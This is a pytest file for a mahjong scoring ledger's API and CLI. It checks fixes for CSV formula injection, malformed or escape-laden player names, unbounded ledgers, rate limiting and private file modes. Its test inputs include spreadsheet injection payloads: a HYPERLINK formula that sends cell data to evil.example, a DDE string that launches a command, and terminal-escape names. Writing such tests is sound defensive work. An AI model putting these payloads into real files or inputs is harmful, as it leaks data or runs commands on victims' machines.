"""The ledger's part: safe CSV, names that are text, canonical rule sets, bounded ledgers, a private file.

Each finding of the probe is a case here (docs/limits.md, docs/ledger.md):
formula injection through players' names (2), a lone surrogate or bytes that
are not UTF-8 giving a 500 / exit 1 (3), terminal escapes in names (4),
ledgers that grow without limit and answers that grow with them (5), a rule
set stored as typed (6), and the database file created 0644.
"""

from __future__ import annotations

import csv
import email.message
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from alembic import command
from api_app import app
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from taihu.api.ledger import LedgerRates, attachment
from taihu.cli.main import app as taihu_app
from taihu.ledger import (
    ADD_RATE,
    BOM,
    CREATE_RATE,
    MAX_NAME,
    LedgerFull,
    check_text,
    spreadsheet_text,
)
from taihu.ratelimit import Rate, RateLimiter, client_key, retry_after
from taihu.scorer import HandError
from taihu.store import LedgerStore, alembic_config, database_url

ROOT = Path(__file__).resolve().parent.parent
NORMAL_WIN: dict[str, Any] = json.loads((ROOT / "examples/tables/normal-win.json").read_text(encoding="utf-8"))
PLAYERS = ["甲", "乙", "丙", "丁"]
runner = CliRunner()


def taihu(*args: str) -> Any:
    return runner.invoke(taihu_app, list(args))


@pytest.fixture
def client() -> TestClient:
    return TestClient(app)


def new_ledger(client: TestClient, players: list[str] = PLAYERS, rules: str = "lingxi") -> tuple[str, dict[str, str]]:
    reply = client.post("/ledgers", json={"rules": rules, "players": players})
    assert reply.status_code == 201, reply.text
    return reply.json()["id"], {"Authorization": f"Bearer {reply.json()['token']}"}


# -- finding 2: the CSV opens as text, with a BOM, as a download ----------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize(
    "text, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("甲", "甲"),
        ("a=b", "a=b"),  # only the first character of a cell makes a formula
        # a spreadsheet that splits on `;`, or on `,` past the quotes, starts a cell after each separator
        ("a;=1+1", "a;'=1+1"),
        ("a,=1", "a,'=1"),
        (";=", ";'="),
        ("x;-1;@2", "x;'-1;'@2"),
        ("a;\tb", "a;'\tb"),
        ("a,\rb", "a,'\rb"),
        ("a\n=1", "a\n'=1"),  # a line break starts a row
        ("a; =1", "a;' =1"),  # past spaces
        ('a;"=1', "a;'\"=1"),  # past a quote, which opens a quoted cell
        ("a;b", "a;b"),
        ("a;'=1", "a;'=1"),  # already text
        ("", ""),
        ("E", "E"),
    ],
)
def test_a_text_cell_that_would_be_a_formula_is_quoted(text: str, cell: str) -> None:
    assert spreadsheet_text(text) == cell


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(text=st.text(alphabet=st.sampled_from("=+-@\t\r\n,;\"' a甲"), max_size=12))
def test_no_spreadsheet_splitting_the_csv_line_anywhere_sees_a_formula(text: str) -> None:
    """However a spreadsheet splits a row (on `,` or `;`, honouring the quotes or not, at line breaks), each
    cell it sees starts, past spaces and quotes, with no formula: the CSV's cell is the text, a `'` before
    each formula start (and taking those out gives the text back)."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([1, spreadsheet_text(text), -52])
    for separator in (",", ";"):
        for line in out.getvalue().splitlines():
            for cell in line.split(separator):
                assert not cell.lstrip(' "').startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-52", cell
    if "\r" not in text:  # the writer quotes a cell for its line terminator "\n" only (names hold no CR: check_text)
        assert next(csv.reader(io.StringIO(out.getvalue(), newline="")))[1].replace("'", "") == text.replace("'", "")


def spreadsheet_rows(text: str) -> list[list[str]]:
    """The cells a spreadsheet reads from the CSV, the BOM (which tells it the encoding) taken off first."""
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


def assert_opens_as_text(text: str, players: list[str]) -> None:
    rows = spreadsheet_rows(text)
    header, body = rows[0], rows[1:]
    assert header == [
        *("deal", "player", "seat", "dealer", "net", "total", "next_dealer", "taihu"),
        *("winner", "discarder", "result"),
    ]
    assert {row[1] for row in body} == {"'" + p for p in players}  # each shown as the name, run as nothing
    for row in body:
        for index in (1, 3, 6, 8, 9):  # player, dealer, next_dealer, winner, discarder
            assert not row[index].startswith(("=", "+", "-", "@", "\t", "\r")), row
        int(row[0]), int(row[4]), int(row[5])  # the numbers stay numbers
    assert any(row[4].startswith("-") for row in body)  # a negative net is written as a number, not quoted


def test_the_csv_of_hostile_names_opens_as_text_with_a_bom_as_a_download(client: TestClient) -> None:
    ledger_id, keeper = new_ledger(client, HOSTILE)
    assert client.post(f"/ledgers/{ledger_id}/deals", json=NORMAL_WIN, headers=keeper).status_code == 201
    reply = client.get(f"/ledgers/{ledger_id}.csv")
    assert reply.status_code == 200 and reply.content.startswith(b"\xef\xbb\xbf")
    assert reply.headers["content-type"] == "text/csv; charset=utf-8"
    assert reply.headers["content-disposition"].startswith("attachment; filename=")
    assert_opens_as_text(reply.text, HOSTILE)


def test_the_cli_export_is_the_same_csv(tmp_path: Path) -> None:
    db = str(tmp_path / "evening.db")
    assert taihu("ledger", "new", "friday", "--players", ",".join(HOSTILE[1:] + ["甲"]), "--db", db).exit_code == 0
    assert taihu("ledger", "add", "friday", str(ROOT / "examples/tables/normal-win.json"), "--db", db).exit_code == 0
    exported = taihu("ledger", "export", "friday", "--csv", "--db", db)
    assert exported.exit_code == 0
    rows = spreadsheet_rows(exported.output)
    assert [row[1] for row in rows[1:]] == ["'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)", "甲"]


@pytest.mark.parametrize(
    "name, ascii_name",
    [("taihu-wh9CoNe8Vn4KnynPrFDDRmC-.csv", "taihu-wh9CoNe8Vn4KnynPrFDDRmC-.csv"), ("taihu-周五.csv", "taihu-__.csv")],
)
def test_the_download_is_named_in_ascii_and_in_utf8(name: str, ascii_name: str) -> None:
    header = attachment(name)
    plain, extended = header.split("; ")[1:]
    assert plain == f'filename="{ascii_name}"'
    assert extended.startswith("filename*=UTF-8''") and extended.isascii()
    parsed = email.message.Message()
    parsed["Content-Disposition"] = f"attachment; {extended}"
    assert parsed.get_filename() == name  # a client that reads filename* (RFC 6266: it wins) gets the name


# -- findings 3 and 4: names are text -------------------------------------------------------------

BAD_NAMES = [
    ("\udc80x", "a lone surrogate", "\\udc80"),
    ("a\x1b[2J\x1b[31mPWNED", "a control character", "\\x1b"),
    ("bell\x07", "a control character", "\\x07"),
    ("nul\x00", "a control character", "\\x00"),
    ("two\nlines", "a control character", "\\n"),
    ("del\x7f", "a control character", "\\x7f"),
    ("c1\x9b31m", "a control character", "\\x9b"),
    ("abc\u202edcba", "a bidirectional override", "\\u202e"),
    ("abc\u2066x\u2069", "a bidirectional override", "\\u2066"),
    ("x" * (MAX_NAME + 1), f"a name of {MAX_NAME + 1} characters", ""),
    ("", "an empty name", ""),
    (" 甲", "leading or trailing spaces", ""),
]


@pytest.mark.parametrize("name, problem, shown", BAD_NAMES)
def test_a_name_that_is_not_text_is_refused_naming_the_place_and_the_problem(
    name: str, problem: str, shown: str
) -> None:
    with pytest.raises(HandError, match="players\\[3\\]") as info:
        check_text(name, "players[3]", "a player's name")
    assert problem in str(info.value) and shown in str(info.value) and info.value.code == "bad_name"
    str(info.value).encode("utf-8")  # the message itself always encodes


@pytest.mark.parametrize("name", ["甲", "Ann-Marie", "o'brien", "=1", "😀", "a b", "x" * MAX_NAME, "שלום"])
def test_ordinary_names_are_text(name: str) -> None:
    check_text(name, "players[0]", "a player's name")


@pytest.mark.parametrize("name, problem, shown", BAD_NAMES)
def test_over_http_a_bad_player_name_is_a_422(client: TestClient, name: str, problem: str, shown: str) -> None:
    body = json.dumps({"rules": "lingxi", "players": ["a", "b", "c", name]})  # ASCII JSON: "\udc80" as JSON writes it
    reply = client.post("/ledgers", content=body, headers={"Content-Type": "application/json"})
    assert reply.status_code == 422, reply.text
    assert reply.json()["detail"].startswith("players[3]: ") and problem in reply.json()["detail"]
    assert reply.json()["code"] == "bad_name"


@pytest.mark.parametrize("name, problem, shown", BAD_NAMES[:9])
def test_on_the_command_line_a_bad_name_is_exit_2(tmp_path: Path, name: str, problem: str, shown: str) -> None:
    db = str(tmp_path / "names.db")
    made = taihu("ledger", "new", f"bad{name}", "--players", "甲,乙,丙,丁", "--db", db)
    assert made.exit_code == 2 and "error: ledger name: 'bad" in made.output and problem in made.output
    assert shown in made.output and name not in made.output  # escaped, never printed as it is
    players = taihu("ledger", "new", "ok", "--players", f"a{name},b,c,d", "--db", db)
    assert players.exit_code == 2 and "error: players[0]: " in players.output and problem in players.output
    assert taihu("ledger", "new", "ok", "--players", "甲,乙,丙,丁", "--db", db).exit_code == 0
    shown_ledger = taihu("ledger", "show", f"x{name}", "--db", db)
    assert shown_ledger.exit_code == 2 and "error: ledger name: " in shown_ledger.output


def test_bytes_that_are_not_utf8_in_argv_are_exit_2(tmp_path: Path) -> None:
    """The shell's `$(printf '\\xff')`: Python decodes argv with surrogateescape, so 0xff becomes U+DCFF."""
    db = str(tmp_path / "bytes.db")
    run = [sys.executable, "-c", "from taihu.cli.main import main; main()"]
    cases = [
        ([b"ledger", b"new", b"bad\xffname", b"--players", "甲,乙,丙,丁".encode()], "ledger name: 'bad\\udcffname'"),
        ([b"ledger", b"new", b"ok", b"--players", b"a\xff,b,c,d"], "players[0]: 'a\\udcff'"),
        ([b"ledger", b"show", b"x\xff"], "ledger name: 'x\\udcff'"),
    ]
    for args, message in cases:
        done = subprocess.run([*run, *args, b"--db", db.encode()], capture_output=True, timeout=60, check=False)
        stderr = done.stderr.decode("utf-8", "replace")
        assert done.returncode == 2, stderr
        assert "lone surrogate" in stderr and message in stderr and "internal error" not in stderr


# -- finding 6: the rule set is stored by its canonical name --------------------------------------

RIICHI_DEAL1 = {
    "winner": None,
    "players": {
        "甲": "123m 456m 789p 11s 34p riichi",
        "乙": {"tenpai": True},
        "丙": {"tenpai": False},
        "丁": {"tenpai": False},
    },
    "events": [{"type": "riichi", "seat": "甲"}],
}
RIICHI_DEAL2 = {  # docs/ledger.md's riichi evening, deal 2
    "winner": "甲",
    "discarder": "丙",
    "players": {
        "甲": "234567m 234p 88p 67s +8s dora:1p",
        "乙": "147m 258p 369s EESW",
        "丙": "19m 19p 19s ESWN 2m 5p 8s",
        "丁": "147p 258s 369m NN 5m 5p",
    },
}


@pytest.mark.parametrize("spelled", ["riichi", "RIICHI", "立直", " Riichi "])
def test_a_riichi_ledger_carries_honba_and_pot_however_its_rules_were_spelled(
    ledger_db: Path, spelled: str, client: TestClient
) -> None:
    with LedgerStore(ledger_db) as store:
        ledger = store.create(f"friday {spelled.strip()}", spelled, PLAYERS)
        assert ledger.rules == "riichi" and store.ledger(ledger.name).rules == "riichi"
        store.add(ledger, RIICHI_DEAL1)
        store.add(ledger, {**RIICHI_DEAL2, "rules": spelled})  # a table may spell the rules its own way too
        standing = store.standing(ledger)
    assert standing.totals["甲"] == 7600 and standing.carried == {"honba": 2, "pot": 0}
    ledger_id, keeper = new_ledger(client, rules=spelled)
    assert client.get(f"/ledgers/{ledger_id}").json()["rules"] == "riichi"
    for deal in (RIICHI_DEAL1, RIICHI_DEAL2):
        answer = client.post(f"/ledgers/{ledger_id}/deals", json=deal, headers=keeper)
    assert answer.json()["standings"]["totals"]["甲"] == 7600


@pytest.mark.parametrize("spelled, canonical", [("螺山", "luoshan"), ("Lingxi", "lingxi"), ("金華", "jinhua")])
def test_other_rule_sets_are_stored_canonical(ledger_db: Path, spelled: str, canonical: str) -> None:
    with LedgerStore(ledger_db) as store:
        store.create("evening", spelled, PLAYERS)
    listed = taihu("ledger", "list", "--db", str(ledger_db))
    assert f"│ {canonical} " in listed.output and spelled not in listed.output


def test_a_file_with_rules_as_typed_migrates_to_canonical_names(ledger_db: Path) -> None:
    """A database at revision 0001 kept the rules as typed: opening it with this taihu rewrites them (0002)."""
    engine = sa.create_engine(database_url(ledger_db))
    with engine.begin() as db:
        config = alembic_config()
        config.attributes["connection"] = db
        command.upgrade(config, "0001")
        del config.attributes["connection"]
        db.execute(
            sa.text(
                "INSERT INTO ledgers (name, rules, players, options, created) "
                "VALUES ('old riichi', 'RIICHI', :players, '{}', ''), ('old luoshan', '螺山', :players, '{}', '')"
            ),
            {"players": json.dumps(PLAYERS)},
        )
    engine.dispose()
    with LedgerStore(ledger_db) as store:
        assert [(ledger.name, ledger.rules) for ledger, _ in store.names()] == [
            ("old riichi", "riichi"),
            ("old luoshan", "luoshan"),
        ]
        ledger = store.ledger("old riichi")
        store.add(ledger, RIICHI_DEAL1)
        store.add(ledger, RIICHI_DEAL2)
        assert store.standing(ledger).totals["甲"] == 7600


# -- finding 5: bounded ledgers, rates per client, answers that do not grow -----------------------


def test_a_ledger_holds_at_most_max_deals(ledger_db: Path) -> None:
    with LedgerStore(ledger_db, max_deals=3) as store:
        ledger = store.create("short", "lingxi", PLAYERS)
        for _ in range(3):
            store.add(ledger, NORMAL_WIN)
        with pytest.raises(LedgerFull, match="holds 3 deals, the most a ledger keeps \\(3\\)") as info:
            store.add(ledger, NORMAL_WIN)
        assert info.value.code == "ledger_full" and store.standing(ledger).deal_count == 3
        store.undo(ledger)
        store.add(ledger, NORMAL_WIN)  # room again after an undo


def test_a_database_holds_at_most_max_ledgers(ledger_db: Path) -> None:
    with LedgerStore(ledger_db, max_ledgers=2) as store:
        store.create("one", "lingxi", PLAYERS)
        store.create_shared("lingxi", PLAYERS)
        with pytest.raises(LedgerFull, match="holds 2 ledgers") as info:
            store.create("three", "lingxi", PLAYERS)
        assert info.value.code == "too_many_ledgers"
        assert str(ledger_db) not in str(info.value)  # over HTTP the message answers anyone: no path in it


def test_over_http_the_limits_are_a_409(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("taihu.ledger.MAX_DEALS", 1)
    monkeypatch.setattr("taihu.ledger.MAX_LEDGERS", 1)
    ledger_id, keeper = new_ledger(client)
    assert client.post(f"/ledgers/{ledger_id}/deals", json=NORMAL_WIN, headers=keeper).status_code == 201
    full = client.post(f"/ledgers/{ledger_id}/deals", json=NORMAL_WIN, headers=keeper)
    assert full.status_code == 409 and "the most a ledger keeps (1)" in full.json()["detail"]
    assert client.post("/ledgers", json={"players": PLAYERS}).status_code == 409
    assert client.get(f"/ledgers/{ledger_id}").json()["deal_count"] == 1


def test_on_the_command_line_a_full_ledger_is_exit_2(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("taihu.ledger.MAX_DEALS", 1)
    db = str(tmp_path / "full.db")
    assert taihu("ledger", "new", "f", "--players", "甲,乙,丙,丁", "--db", db).exit_code == 0
    assert taihu("ledger", "add", "f", str(ROOT / "examples/tables/normal-win.json"), "--db", db).exit_code == 0
    again = taihu("ledger", "add", "f", str(ROOT / "examples/tables/normal-win.json"), "--db", db)
    assert again.exit_code == 2 and "the most a ledger keeps (1)" in again.output


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_a_bucket_lets_a_burst_through_then_one_per_interval() -> None:
    clock = FakeClock()
    limiter = RateLimiter(Rate(burst=3, every_s=10.0), clock=clock)
    assert [limiter.take("a") for _ in range(3)] == [0.0, 0.0, 0.0]
    assert limiter.take("a") == pytest.approx(10.0)
    assert limiter.take("b") == 0.0  # another client has its own bucket
    clock.now += 4.0
    assert limiter.take("a") == pytest.approx(6.0)  # a refused try takes nothing
    clock.now += 6.0
    assert limiter.take("a") == 0.0 and limiter.take("a") == pytest.approx(10.0)
    clock.now += 1000.0
    assert [limiter.take("a") for _ in range(4)][-1] > 0  # a long pause refills to the burst, no more


def test_the_limiter_forgets_the_least_recently_seen_client_first() -> None:
    limiter = RateLimiter(Rate(burst=1, every_s=60.0), clock=FakeClock(), max_clients=2)
    for key in ("a", "b", "a", "c"):  # "b" is the least recently seen when "c" comes
        limiter.take(key)
    assert limiter.take("a") > 0 and limiter.take("b") == 0.0


@pytest.mark.parametrize(
    "host, key",
    [
        ("127.0.0.1", "127.0.0.1"),
        ("2001:db8::1", "2001:db8::/64"),
        ("2001:db8::ffff:1", "2001:db8::/64"),  # one host holds a whole /64
        ("::ffff:10.0.0.2", "10.0.0.2"),
        ("testclient", "testclient"),
        (None, "unknown"),
    ],
)
def test_clients_are_keyed_by_address(host: str | None, key: str) -> None:
    assert client_key(host) == key


@pytest.mark.parametrize("wait, header", [(0.01, "1"), (1.0, "1"), (1.2, "2"), (59.5, "60")])
def test_retry_after_is_whole_seconds_rounded_up(wait: float, header: str) -> None:
    assert retry_after(wait) == header


def test_the_documented_rates_are_the_constants() -> None:
    limits = (ROOT / "docs/limits.md").read_text(encoding="utf-8")
    assert f"| new ledgers per client | {CREATE_RATE.describe()} |" in limits
    assert f"| deals added per client | {ADD_RATE.describe()} |" in limits


def test_over_http_a_client_over_its_rate_gets_429_with_retry_after(client: TestClient) -> None:
    clock = FakeClock()
    app.state.ledger_rates = LedgerRates(
        creates=RateLimiter(Rate(burst=2, every_s=30.0), clock=clock),
        adds=RateLimiter(Rate(burst=1, every_s=5.0), clock=clock),
    )
    ledger_id, keeper = new_ledger(client)
    new_ledger(client)
    refused = client.post("/ledgers", json={"players": PLAYERS})
    assert refused.status_code == 429 and refused.headers["retry-after"] == "30"
    assert "too many new ledgers from this address" in refused.json()["detail"]
    other = TestClient(app, client=("10.0.0.2", 50000))  # another address is not held back
    assert other.post("/ledgers", json={"players": PLAYERS}).status_code == 201
    assert client.post(f"/ledgers/{ledger_id}/deals", json=NORMAL_WIN, headers=keeper).status_code == 201
    again = client.post(f"/ledgers/{ledger_id}/deals", json=NORMAL_WIN, headers=keeper)
    assert again.status_code == 429 and again.headers["retry-after"] == "5"
    assert client.get(f"/ledgers/{ledger_id}").json()["deal_count"] == 1  # the refused add changed nothing
    clock.now += 5.0
    assert client.post(f"/ledgers/{ledger_id}/deals", json=NORMAL_WIN, headers=keeper).status_code == 201
    clock.now += 30.0
    assert client.post("/ledgers", json={"players": PLAYERS}).status_code == 201


def test_adds_without_the_edit_token_do_not_spend_the_address_rate(client: TestClient) -> None:
    """On a club's shared Wi-Fi one address is every phone: a client with no token must not block the adds."""
    app.state.ledger_rates = LedgerRates(adds=RateLimiter(Rate(burst=1, every_s=60.0), clock=FakeClock()))
    ledger_id, keeper = new_ledger(client)
    for _ in range(3):
        assert client.post("/ledgers/nosuchledger/deals", json=NORMAL_WIN, headers=keeper).status_code == 404
        wrong = {"Authorization": "Bearer x"}
        assert client.post(f"/ledgers/{ledger_id}/deals", json=NORMAL_WIN, headers=wrong).status_code == 403
    assert client.post(f"/ledgers/{ledger_id}/deals", json=NORMAL_WIN, headers=keeper).status_code == 201
    assert client.post(f"/ledgers/{ledger_id}/deals", json=NORMAL_WIN, headers=keeper).status_code == 429


def test_two_apps_keep_their_own_rates() -> None:
    """The limiters are the app's state: another app (another test) starts with its own."""
    from api_app import TEST_SETTINGS

    from taihu.api.app import create_app

    other = create_app(TEST_SETTINGS)
    app.state.ledger_rates = LedgerRates(creates=RateLimiter(Rate(burst=1, every_s=60.0), clock=FakeClock()))
    first = TestClient(app)
    new_ledger(first)
    assert first.post("/ledgers", json={"players": PLAYERS}).status_code == 429
    assert TestClient(other).post("/ledgers", json={"players": PLAYERS}).status_code == 201


def test_an_add_answers_one_deal_however_long_the_ledger(client: TestClient) -> None:
    ledger_id, keeper = new_ledger(client)
    drawn = json.loads((ROOT / "examples/tables/drawn.json").read_text(encoding="utf-8"))
    first = client.post(f"/ledgers/{ledger_id}/deals", json=drawn, headers=keeper)
    for _ in range(30):
        last = client.post(f"/ledgers/{ledger_id}/deals", json=drawn, headers=keeper)
    assert set(first.json()) == set(last.json()) == {"deal", "standings"}
    assert last.json()["deal"]["number"] == 31 and last.json()["standings"]["deal_count"] == 31
    assert len(last.content) <= len(first.content) + 2  # the deal's number grew a digit, the count too
    undone = client.delete(f"/ledgers/{ledger_id}/deals/last?deal=31", headers=keeper)
    assert undone.json()["deal"]["number"] == 31 and undone.json()["standings"]["deal_count"] == 30
    assert len(client.get(f"/ledgers/{ledger_id}").json()["deals"]) == 30  # GET answers the whole ledger


# -- the file is private ----------------------------------------------------------------------------


def test_the_database_and_its_wal_files_are_made_0600(tmp_path: Path) -> None:
    path = tmp_path / "new" / "ledger.db"
    saved = os.umask(0)  # even a umask that would let anyone read it
    try:
        with LedgerStore(path) as store:
            ledger = store.create("private", "lingxi", PLAYERS)
            store.add(ledger, NORMAL_WIN)
            files = [path, path.with_name("ledger.db-wal"), path.with_name("ledger.db-shm")]
            modes = {f.name: stat.S_IMODE(f.stat().st_mode) for f in files}
    finally:
        os.umask(saved)
    assert modes == {"ledger.db": 0o600, "ledger.db-wal": 0o600, "ledger.db-shm": 0o600}
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700  # the folder taihu made for it


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o002, 0o077])
def test_every_folder_the_store_makes_is_0700_whatever_the_umask(tmp_path: Path, umask: int) -> None:
    """`--db some/new/dir/x.sqlite`: each folder taihu makes is its owner's only; one already there keeps its mode."""
    (tmp_path / "some").mkdir(mode=0o755)
    (tmp_path / "some").chmod(0o755)
    path = tmp_path / "some" / "new" / "dir" / "x.sqlite"
    saved = os.umask(umask)
    try:
        LedgerStore(path).close()
    finally:
        os.umask(saved)
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in (path.parent.parent, path.parent)}
    assert modes == {"new": 0o700, "dir": 0o700}
    assert stat.S_IMODE((tmp_path / "some").stat().st_mode) == 0o755


def test_an_existing_file_keeps_the_mode_its_owner_gave_it(tmp_path: Path) -> None:
    path = tmp_path / "shared.db"
    LedgerStore(path).close()
    path.chmod(0o640)
    LedgerStore(path).close()
    assert stat.S_IMODE(path.stat().st_mode) == 0o640


def test_a_shared_ledger_s_id_never_starts_with_a_dash_which_the_cli_reads_as_an_option(
    ledger_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import secrets

    import taihu.store

    drawn = iter(["-Te-sTdzt1KR45tHoCSNXKdU", "Te-sTdzt1KR45tHoCSNXKdU-"])
    real = secrets.token_urlsafe
    monkeypatch.setattr(taihu.store.secrets, "token_urlsafe", lambda n: next(drawn) if n == 18 else real(n))
    with LedgerStore(ledger_db) as store:
        ledger_id, _ = store.create_shared("lingxi", PLAYERS)
    assert ledger_id == "Te-sTdzt1KR45tHoCSNXKdU-"
    exported = CliRunner().invoke(taihu_app, ["ledger", "export", ledger_id, "--csv", "--db", str(ledger_db)])
    assert exported.exit_code == 0, exported.output
